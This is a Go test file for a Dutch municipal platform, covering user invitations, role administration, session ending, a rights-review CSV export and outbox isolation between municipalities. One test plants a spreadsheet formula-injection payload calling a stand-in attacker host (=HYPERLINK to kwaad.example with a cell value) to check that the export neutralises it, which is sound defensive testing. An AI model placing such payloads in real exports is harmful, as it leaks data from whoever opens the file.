package web_test

import (
	"context"
	"encoding/csv"
	"fmt"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/vios-platform/vios"
	"github.com/vios-platform/vios/auth"
	"github.com/vios-platform/vios/store/storetest"
)

// lastLink returns the newest link to path in the outbox.
func (p *platform) lastLink(t *testing.T, path string) string {
	t.Helper()
	mails, err := p.db.Accounts.ListMail(context.Background(), 10)
	if err != nil {
		t.Fatal(err)
	}
	for _, m := range mails {
		if link := regexp.MustCompile(regexp.QuoteMeta(path) + `[A-Za-z0-9_-]+`).FindString(m.Body); link != "" {
			return link
		}
	}
	t.Fatalf("no mail with a link to %s", path)
	return ""
}

func TestInviteAcceptAndFirstLogin(t *testing.T) {
	p := newPlatform(t, true)
	ctx := context.Background()
	admin := p.login(t, "beheerder@arnhem.demo.example", testPassword).cookie.Value
	schools, _ := p.db.Organisations.ListOrganisations(ctx, vios.OrganisationFilter{MunicipalityID: p.arnhemID, Kind: vios.OrgSchool})

	// Every mistake at once, and nothing saved.
	bad := p.do(t, "POST", "/beheer/arnhem/gebruikers/uitnodigen", admin, url.Values{"naam": {""}, "email": {"geen-adres"}, "rol": {"school"}})
	for _, want := range []string{"Vul de naam in.", "Vul een geldig e-mailadres in", "Kies de school waar deze persoon werkt."} {
		if bad.status != http.StatusBadRequest || !strings.Contains(bad.body, want) {
			t.Errorf("bad invite: %d, lacks %q", bad.status, want)
		}
	}
	if mails, _ := p.db.Accounts.ListMail(ctx, 10); len(mails) != 0 {
		t.Fatalf("a refused invitation sent %d mails", len(mails))
	}

	r := p.do(t, "POST", "/beheer/arnhem/gebruikers/uitnodigen", admin, url.Values{"naam": {"Noor Nieuw"},
		"email": {"noor@school.example"}, "rol": {"school"}, "organisatie": {schools[0].ID}})
	if r.location != "/beheer/arnhem/gebruikers?melding=uitgenodigd" {
		t.Fatalf("invite: %d %s", r.status, r.body)
	}
	if again := p.do(t, "POST", "/beheer/arnhem/gebruikers/uitnodigen", admin, url.Values{"naam": {"Noor"}, "email": {"noor@school.example"}, "rol": {"regisseur"}}); again.status != http.StatusConflict || !strings.Contains(again.body, "Er is al een account met dit e-mailadres.") {
		t.Errorf("second invitation for the same address: %d", again.status)
	}
	link := p.lastLink(t, "/uitnodiging/")
	if page := p.do(t, "GET", link, "", nil); page.status != 200 || !strings.Contains(page.body, "Noor Nieuw") {
		t.Fatalf("invitation page: %d", page.status)
	}
	if r := p.do(t, "POST", link, "", url.Values{"nieuw": {"welkom123456"}, "herhaling": {"welkom123456"}}); r.status != http.StatusBadRequest || !strings.Contains(r.body, "veelgebruikte") {
		t.Errorf("common password accepted: %d", r.status)
	}
	const pw = "zeven-zwanen-zwemmen-zacht"
	if r := p.do(t, "POST", link, "", url.Values{"nieuw": {pw}, "herhaling": {pw}}); r.status != 200 || !strings.Contains(r.body, "Uw wachtwoord is ingesteld") {
		t.Fatalf("accept: %d", r.status)
	}
	if r := p.do(t, "GET", link, "", nil); r.status != http.StatusNotFound {
		t.Errorf("used invitation link: %d, want 404", r.status)
	}
	// The new school account is not a demo account: its first login sets up
	// the second factor, even in demo mode.
	if r := p.login(t, "noor@school.example", pw); r.location != "/inloggen/tweede-factor-instellen" {
		t.Errorf("first login goes to %q", r.location)
	}
}

func TestUserAdministration(t *testing.T) {
	p := newPlatform(t, true)
	ctx := context.Background()
	admin := p.login(t, "beheerder@arnhem.demo.example", testPassword).cookie.Value
	dh, _ := p.db.Organisations.FindMunicipalityBySlug(ctx, "den-haag")

	// Someone with roles in Arnhem and Den Haag: Arnhem's administrator may
	// take the Arnhem role, but not block the whole account.
	both := &vios.User{Email: "twee@gemeenten.example", Name: "Twee Gemeenten", Memberships: []vios.Membership{
		{MunicipalityID: p.arnhemID, Role: vios.RoleCoordinator}, {MunicipalityID: dh.ID, Role: vios.RoleCoordinator}}}
	p.db.Accounts.CreateUser(ctx, both, "")
	if r := p.do(t, "POST", "/beheer/arnhem/gebruikers/"+both.ID+"/blokkeren", admin, url.Values{}); r.status != http.StatusForbidden || !strings.Contains(r.body, "ook voor een andere gemeente") {
		t.Errorf("blocking a two-municipality user: %d", r.status)
	}
	// No role is preset: a form sent without choosing one gives nothing.
	users := p.do(t, "GET", "/beheer/arnhem/gebruikers", admin, nil)
	if !strings.Contains(users.body, `id="rol-`+both.ID+`" name="rol" required><option value="">Kies een rol</option>`) {
		t.Errorf("the role select does not start with 'Kies een rol'")
	}
	if r := p.do(t, "POST", "/beheer/arnhem/gebruikers/"+both.ID+"/rollen", admin, url.Values{"rol": {""}}); r.status != http.StatusBadRequest || !strings.Contains(r.body, "Kies een bestaande rol") {
		t.Errorf("a role form without a role: %d", r.status)
	}
	if u, _ := p.db.Accounts.FindUserByID(ctx, both.ID); len(u.Memberships) != 2 {
		t.Errorf("roles after a form without a role: %d", len(u.Memberships))
	}
	// Give an Arnhem role, then take the other one away.
	if r := p.do(t, "POST", "/beheer/arnhem/gebruikers/"+both.ID+"/rollen", admin, url.Values{"rol": {"otsv"}}); r.location != "/beheer/arnhem/gebruikers?melding=rol-toegekend" {
		t.Errorf("add role: %d %s", r.status, r.body)
	}
	// Revoking asks first (without JavaScript): the first POST changes nothing.
	revoke := "/beheer/arnhem/gebruikers/" + both.ID + "/rollen/" + both.Memberships[0].ID + "/intrekken"
	if r := p.do(t, "POST", revoke, admin, url.Values{}); r.status != 200 || !strings.Contains(r.body, "Wilt u de rol Coördinator van Twee Gemeenten in Arnhem intrekken?") ||
		!strings.Contains(r.body, `name="bevestigd" value="ja"`) {
		t.Errorf("revoking without confirmation: %d", r.status)
	}
	if u, _ := p.db.Accounts.FindUserByID(ctx, both.ID); len(u.Memberships) != 3 {
		t.Errorf("an unconfirmed revocation took a role: %d left", len(u.Memberships))
	}
	if r := p.do(t, "POST", revoke, admin, url.Values{"bevestigd": {"ja"}}); r.location != "/beheer/arnhem/gebruikers?melding=rol-ingetrokken" {
		t.Errorf("removing the Arnhem role: %d", r.status)
	}
	// Den Haag's role is out of reach under Arnhem's path.
	if r := p.do(t, "POST", "/beheer/arnhem/gebruikers/"+both.ID+"/rollen/"+both.Memberships[1].ID+"/intrekken", admin, url.Values{}); r.status != http.StatusNotFound {
		t.Errorf("removing Den Haag's role via Arnhem: %d", r.status)
	}

	// Blocking ends the user's sessions.
	partner := p.login(t, "partner@arnhem.demo.example", testPassword).cookie.Value
	pu, _, _ := p.db.Accounts.FindCredentials(ctx, "partner@arnhem.demo.example")
	if r := p.do(t, "POST", "/beheer/arnhem/gebruikers/"+pu.ID+"/blokkeren", admin, url.Values{}); r.location != "/beheer/arnhem/gebruikers?melding=geblokkeerd" {
		t.Fatalf("block: %d", r.status)
	}
	if p.do(t, "GET", "/account", partner, nil).status != http.StatusSeeOther {
		t.Error("blocked user still logged in")
	}
	// The last administrator keeps the role.
	me, _, _ := p.db.Accounts.FindCredentials(ctx, "beheerder@arnhem.demo.example")
	if r := p.do(t, "POST", "/beheer/arnhem/gebruikers/"+me.ID+"/rollen/"+me.Memberships[0].ID+"/intrekken", admin, url.Values{"bevestigd": {"ja"}}); r.status != http.StatusConflict || !strings.Contains(r.body, "laatste functioneel beheerder") {
		t.Errorf("removing the last beheerder: %d", r.status)
	}
	if r := p.do(t, "POST", "/beheer/arnhem/gebruikers/"+me.ID+"/blokkeren", admin, url.Values{}); r.status != http.StatusBadRequest {
		t.Errorf("blocking oneself: %d", r.status)
	}
	// The regisseur sees the list but cannot manage.
	reg := p.login(t, "regisseur@arnhem.demo.example", testPassword).cookie.Value
	list := p.do(t, "GET", "/beheer/arnhem/gebruikers", reg, nil)
	if list.status != 200 || !strings.Contains(list.body, "Twee Gemeenten") || strings.Contains(list.body, "Iemand uitnodigen") {
		t.Errorf("regisseur's view: %d", list.status)
	}
	if r := p.do(t, "GET", "/beheer/arnhem/gebruikers/uitnodigen", reg, nil); r.status != http.StatusForbidden {
		t.Errorf("regisseur invites: %d", r.status)
	}
}

func TestRightsReview(t *testing.T) {
	p := newPlatform(t, true)
	ctx := context.Background()
	// The otsv account last logged in 100 days ago, the partner account
	// is blocked, the fg logs in now.
	p.db.Now = func() time.Time { return storetest.Now().Add(-100 * 24 * time.Hour) }
	p.login(t, "otsv@arnhem.demo.example", testPassword)
	p.db.Now = storetest.Now
	pu, _, _ := p.db.Accounts.FindCredentials(ctx, "partner@arnhem.demo.example")
	p.db.Accounts.SetUserDisabled(vios.NewSystemContext(ctx, "testopzet"), pu.ID, true, p.arnhemID)
	fg := p.login(t, "fg@arnhem.demo.example", testPassword).cookie.Value
	r := p.do(t, "GET", "/beheer/arnhem/rechtenoverzicht", fg, nil)
	if r.status != 200 {
		t.Fatalf("review: %d", r.status)
	}
	rows := regexp.MustCompile(`(?s)<th class="utrecht-table__header-cell" scope="row">([^<]+).*?<td class="utrecht-table__cell">([^<]+)<br>.*?<td class="utrecht-table__cell">([^<]*)</td>\s*</tr>`).FindAllStringSubmatch(r.body, -1)
	var roles []string
	flags := map[string]string{} // name → "Let op"
	for _, row := range rows {
		roles = append(roles, strings.TrimSpace(row[1]))
		flags[row[2]] = row[3]
	}
	want := []string{"Functioneel beheerder", "Regisseur (gemeente)", "Functionaris gegevensbescherming"}
	if len(roles) < 7 || !slices.Equal(roles[:3], want) {
		t.Errorf("review order: %q", roles)
	}
	for name, want := range map[string]string{
		"Demo Operationeel Team Schoolveiligheid Arnhem": "Slapend account.",
		"Demo Functionaris gegevensbescherming Arnhem":   "",
		"Demo Samenwerkingspartner Arnhem":               "Geblokkeerd. Slapend account.",
		"Mila Mentor":                                    "Slapend account.",
	} {
		got, ok := flags[name]
		if !ok {
			t.Errorf("%s not in the review (%d rows)", name, len(rows))
		} else if !strings.HasPrefix(got, want) || (want == "" && strings.Contains(got, "Slapend")) {
			t.Errorf("%s flagged %q, want %q", name, got, want)
		}
	}
	if !strings.Contains(r.body, "1 geblokkeerde accounts") {
		t.Error("no count of blocked accounts")
	}
	csv := p.do(t, "GET", "/beheer/arnhem/rechtenoverzicht.csv", fg, nil)
	if !strings.HasPrefix(csv.body, "\ufeffnaam,e-mailadres,rol,bevoorrecht,organisatie,status,laatst ingelogd,slapend,tweede factor\n") || strings.Count(csv.body, "\n") < 8 {
		t.Errorf("CSV: %q", csv.body[:min(len(csv.body), 200)])
	}
	// Not for another municipality's privacy officer, nor for the school.
	for _, email := range []string{"fg@den-haag.demo.example", "school@arnhem.demo.example"} {
		s := p.login(t, email, testPassword).cookie.Value
		if r := p.do(t, "GET", "/beheer/arnhem/rechtenoverzicht", s, nil); r.status != http.StatusForbidden {
			t.Errorf("%s: %d", email, r.status)
		}
	}
}

func TestOutboxOnlyInDemoModeForAdministrators(t *testing.T) {
	for _, demoMode := range []bool{true, false} {
		p := newPlatform(t, demoMode)
		p.db.Accounts.QueueMail(context.Background(), "partner@arnhem.demo.example", "Test", "Hallo")
		want := map[bool]int{true: 200, false: 404}[demoMode]
		email := "beheerder@arnhem.demo.example"
		session := ""
		if demoMode {
			session = p.login(t, email, testPassword).cookie.Value
		} else {
			// Outside demo mode every account needs its second factor: a
			// session completed by one, and the page must not exist.
			u, _, err := p.db.Accounts.FindCredentials(context.Background(), email)
			if err != nil {
				t.Fatal(err)
			}
			session = passkeySession(t, p, u.ID)
		}
		got := p.do(t, "GET", "/beheer/uitgaande-mail", session, nil)
		if got.status != want {
			t.Errorf("demo %v: %d, want %d", demoMode, got.status, want)
		}
		if demoMode && !strings.Contains(got.body, "partner@arnhem.demo.example") {
			t.Error("outbox does not show the mail")
		}
	}
	p := newPlatform(t, true)
	school := p.login(t, "school@arnhem.demo.example", testPassword).cookie.Value
	if r := p.do(t, "GET", "/beheer/uitgaande-mail", school, nil); r.status != http.StatusForbidden {
		t.Errorf("school reads the outbox: %d", r.status)
	}
}

// The attack of an anonymous reset for Arnhem's privacy officer,
// then the link read from Den Haag's outbox. The outbox shows only mail to
// users of the reader's own municipalities, and no live link at all.
func TestOutboxShowsNoLinksAndNoOtherMunicipality(t *testing.T) {
	p := newPlatform(t, true)
	ctx := context.Background()
	p.do(t, "POST", "/wachtwoord-vergeten", "", url.Values{"email": {"fg@arnhem.demo.example"}})
	p.waitForBackground(t)
	admin := p.login(t, "beheerder@arnhem.demo.example", testPassword).cookie.Value
	schools, _ := p.db.Organisations.ListOrganisations(ctx, vios.OrganisationFilter{MunicipalityID: p.arnhemID, Kind: vios.OrgSchool})
	if r := p.do(t, "POST", "/beheer/arnhem/gebruikers/uitnodigen", admin, url.Values{"naam": {"Noor Nieuw"},
		"email": {"noor@school.example"}, "rol": {"school"}, "organisatie": {schools[0].ID}}); r.status != http.StatusSeeOther {
		t.Fatalf("invite: %d", r.status)
	}
	// Someone who works in both municipalities: mail to them may be about
	// either, so neither administrator reads it.
	dh, _ := p.db.Organisations.FindMunicipalityBySlug(ctx, "den-haag")
	both := &vios.User{Email: "twee@gemeenten.example", Name: "Twee Gemeenten", Memberships: []vios.Membership{
		{MunicipalityID: p.arnhemID, Role: vios.RoleCoordinator}, {MunicipalityID: dh.ID, Role: vios.RoleCoordinator}}}
	if err := p.db.Accounts.CreateUser(ctx, both, ""); err != nil {
		t.Fatal(err)
	}
	p.db.Accounts.QueueMail(ctx, both.Email, "Over Arnhem", "Casus in Arnhem")

	all, _ := p.db.Logs.ListOutbox(ctx, 100)
	var tokens []string
	for _, m := range all {
		if link := regexp.MustCompile(`/(?:uitnodiging|wachtwoord-herstellen)/([A-Za-z0-9_-]+)`).FindStringSubmatch(m.Body); link != nil {
			tokens = append(tokens, link[1])
		}
	}
	if len(tokens) != 2 {
		t.Fatalf("want a reset and an invitation link in the outbox, got %d mails", len(all))
	}

	denHaag := p.do(t, "GET", "/beheer/uitgaande-mail", p.login(t, "beheerder@den-haag.demo.example", testPassword).cookie.Value, nil)
	arnhem := p.do(t, "GET", "/beheer/uitgaande-mail", admin, nil)
	if denHaag.status != 200 || arnhem.status != 200 {
		t.Fatalf("outbox: %d, %d", denHaag.status, arnhem.status)
	}
	for _, leak := range append(tokens, "fg@arnhem.demo.example", "noor@school.example", both.Email) {
		if strings.Contains(denHaag.body, leak) {
			t.Errorf("Den Haag's outbox shows %q", leak)
		}
	}
	for _, tok := range append(tokens, both.Email) {
		if strings.Contains(arnhem.body, tok) {
			t.Errorf("Arnhem's outbox shows %q", tok)
		}
	}
	if !strings.Contains(arnhem.body, "Aan fg@arnhem.demo.example") || !strings.Contains(arnhem.body, "Aan noor@school.example") ||
		strings.Count(arnhem.body, "[persoonlijke link verborgen]") != 2 {
		t.Errorf("Arnhem's outbox lacks its own mails with the links hidden:\n%s", arnhem.body)
	}
}

// An administrator of Den Haag can neither see Arnhem's users nor reach an
// Arnhem user through Den Haag's pages.
func TestNoAdministrationAcrossMunicipalities(t *testing.T) {
	p := newPlatform(t, true)
	ctx := context.Background()
	dh := p.login(t, "beheerder@den-haag.demo.example", testPassword).cookie.Value
	target, _, _ := p.db.Accounts.FindCredentials(ctx, "partner@arnhem.demo.example")

	for _, path := range []string{"/beheer/arnhem/gebruikers", "/beheer/arnhem/gebruikers/uitnodigen", "/beheer/arnhem/rechtenoverzicht", "/beheer/arnhem/rechtenoverzicht.csv"} {
		r := p.do(t, "GET", path, dh, nil)
		if r.status != http.StatusForbidden || strings.Contains(r.body, "partner@arnhem.demo.example") {
			t.Errorf("GET %s: %d, want 403 without Arnhem's users", path, r.status)
		}
	}
	// Under Arnhem's path: forbidden. Under Den Haag's own path: the Arnhem
	// user does not exist there.
	for _, path := range []string{"/blokkeren", "/deblokkeren", "/rollen", "/sessies-beeindigen", "/rollen/" + target.Memberships[0].ID + "/intrekken"} {
		if r := p.do(t, "POST", "/beheer/arnhem/gebruikers/"+target.ID+path, dh, url.Values{"rol": {"otsv"}}); r.status != http.StatusForbidden {
			t.Errorf("POST via Arnhem %s: %d, want 403", path, r.status)
		}
		if r := p.do(t, "POST", "/beheer/den-haag/gebruikers/"+target.ID+path, dh, url.Values{"rol": {"otsv"}}); r.status != http.StatusNotFound {
			t.Errorf("POST via Den Haag %s: %d, want 404", path, r.status)
		}
	}
	after, _, _ := p.db.Accounts.FindCredentials(ctx, "partner@arnhem.demo.example")
	if after.Disabled || len(after.Memberships) != len(target.Memberships) {
		t.Errorf("the Arnhem user was changed: disabled %v, %d roles", after.Disabled, len(after.Memberships))
	}
	// The overview shows Den Haag only.
	index := p.do(t, "GET", "/beheer", dh, nil)
	if index.status != 200 || !strings.Contains(index.body, `href="/beheer/den-haag/gebruikers"`) || strings.Contains(index.body, "/beheer/arnhem/") {
		t.Errorf("overview: %d", index.status)
	}
}

// Ending someone's sessions logs them out everywhere, and is recorded.
func TestEndSessionsOfAUser(t *testing.T) {
	p := newPlatform(t, true)
	ctx := context.Background()
	admin := p.login(t, "beheerder@arnhem.demo.example", testPassword).cookie.Value
	first := p.login(t, "coordinator@arnhem.demo.example", testPassword).cookie.Value
	second := p.login(t, "coordinator@arnhem.demo.example", testPassword).cookie.Value
	u, _, _ := p.db.Accounts.FindCredentials(ctx, "coordinator@arnhem.demo.example")
	if p.do(t, "GET", "/account", first, nil).status != 200 {
		t.Fatal("not logged in")
	}
	if r := p.do(t, "POST", "/beheer/arnhem/gebruikers/"+u.ID+"/sessies-beeindigen", admin, url.Values{}); r.location != "/beheer/arnhem/gebruikers?melding=sessies-beeindigd" {
		t.Fatalf("end sessions: %d", r.status)
	}
	for _, s := range []string{first, second} {
		if r := p.do(t, "GET", "/account", s, nil); r.status != http.StatusSeeOther {
			t.Errorf("session still works after ending: %d", r.status)
		}
	}
	if p.do(t, "GET", "/account", admin, nil).status != 200 {
		t.Error("the administrator's own session ended too")
	}
	// The coordinator may not end anyone's sessions.
	coord := p.login(t, "coordinator@arnhem.demo.example", testPassword).cookie.Value
	if r := p.do(t, "POST", "/beheer/arnhem/gebruikers/"+u.ID+"/sessies-beeindigen", coord, url.Values{}); r.status != http.StatusForbidden {
		t.Errorf("coordinator ends sessions: %d", r.status)
	}
	audit, _ := p.db.Logs.SearchAudit(ctx, vios.LogFilter{MunicipalityID: p.arnhemID, Action: "sessies-beeindigd"})
	if len(audit) != 1 || audit[0].ObjectID != u.ID {
		t.Errorf("%d audit records of ending sessions", len(audit))
	}
}

// A school role needs one of the municipality's schools, a partner role
// one of its partner organisations; anything else is refused beside the
// field, and nothing is saved.
func TestRoleNeedsTheRightOrganisation(t *testing.T) {
	p := newPlatform(t, true)
	ctx := context.Background()
	admin := p.login(t, "beheerder@arnhem.demo.example", testPassword).cookie.Value
	dh, _ := p.db.Organisations.FindMunicipalityBySlug(ctx, "den-haag")
	partners, _ := p.db.Organisations.ListOrganisations(ctx, vios.OrganisationFilter{MunicipalityID: p.arnhemID, Kind: vios.OrgPartner})
	dhSchools, _ := p.db.Organisations.ListOrganisations(ctx, vios.OrganisationFilter{MunicipalityID: dh.ID, Kind: vios.OrgSchool})
	for name, org := range map[string]string{"a partner": partners[0].ID, "a Den Haag school": dhSchools[0].ID, "nonsense": "onzin"} {
		r := p.do(t, "POST", "/beheer/arnhem/gebruikers/uitnodigen", admin, url.Values{"naam": {""}, "email": {"nieuw@school.example"},
			"rol": {"school"}, "organisatie": {org}})
		for _, want := range []string{"Kies een school van deze gemeente voor de rol schoolmedewerker.", `aria-describedby="organisatie-fout"`, "Vul de naam in."} {
			if r.status != http.StatusBadRequest || !strings.Contains(r.body, want) {
				t.Errorf("school role at %s: %d, lacks %q", name, r.status, want)
			}
		}
		if r := p.do(t, "POST", "/beheer/arnhem/gebruikers/"+p.school.ID+"/rollen", admin, url.Values{"rol": {"school"}, "organisatie": {org}}); r.status != http.StatusBadRequest {
			t.Errorf("adding a school role at %s: %d", name, r.status)
		}
	}
	if _, _, err := p.db.Accounts.FindCredentials(ctx, "nieuw@school.example"); vios.ErrorCode(err) != vios.ENOTFOUND {
		t.Errorf("a refused invitation created the account: %v", err)
	}
	if u, _ := p.db.Accounts.FindUserByID(ctx, p.school.ID); len(u.Memberships) != 1 {
		t.Errorf("refused roles were added: %d roles", len(u.Memberships))
	}
}

// A name that a spreadsheet would run as a formula reaches the CSV as text.
func TestRightsReviewCSVNeutralisesFormulas(t *testing.T) {
	p := newPlatform(t, true)
	ctx := context.Background()
	hash, _ := auth.NewHasher(1).Hash(ctx, testPassword)
	schools, _ := p.db.Organisations.ListOrganisations(ctx, vios.OrganisationFilter{MunicipalityID: p.arnhemID, Kind: vios.OrgSchool})
	for _, name := range []string{`=HYPERLINK("https://kwaad.example/?"&A1,"Klik")`, "+31 6 1234", "-2+3", "@SUM(A1)"} {
		u := &vios.User{Email: fmt.Sprintf("formule%d@school.example", len(name)), Name: name,
			Memberships: []vios.Membership{{MunicipalityID: p.arnhemID, OrganisationID: schools[0].ID, Role: vios.RoleSchool}}}
		if err := p.db.Accounts.CreateUser(ctx, u, hash); err != nil {
			t.Fatal(err)
		}
	}
	fg := p.login(t, "fg@arnhem.demo.example", testPassword).cookie.Value
	body := p.do(t, "GET", "/beheer/arnhem/rechtenoverzicht.csv", fg, nil).body
	records, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	seen := 0
	for _, rec := range records {
		for _, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q starts a formula", cell)
			}
			if strings.HasPrefix(cell, "'") {
				seen++
			}
		}
	}
	if seen != 4 || !strings.Contains(body, `'=HYPERLINK(`) {
		t.Errorf("%d neutralised cells, want 4:\n%s", seen, body)
	}
}
